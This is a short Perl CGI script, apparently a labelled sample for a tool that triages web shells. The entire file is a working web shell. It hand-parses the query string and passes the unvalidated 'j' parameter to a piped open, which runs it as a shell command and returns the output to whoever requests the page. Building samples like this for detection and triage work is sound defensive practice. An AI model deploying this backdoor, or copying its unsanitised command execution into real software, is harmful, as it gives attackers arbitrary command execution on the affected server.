#!/usr/bin/perl
# triage-expect: triage_perl_cgi_shell
# parses the query by hand (no CGI.pm) and reads a command's output through a pipe open
print "Content-Type: text/plain\r\n\r\n";
my %F;
for my $kv (split /&/, $ENV{'QUERY_STRING'}) {
    my ($k, $v) = split /=/, $kv, 2;
    $v =~ tr/+/ /; $v =~ s/%([0-9A-Fa-f]{2})/chr(hex($1))/ge;
    $F{$k} = $v;
}
my $job = $F{'j'};
open(OUT, "($job) 2>&1 |") or print "failed\n";
print while <OUT>;
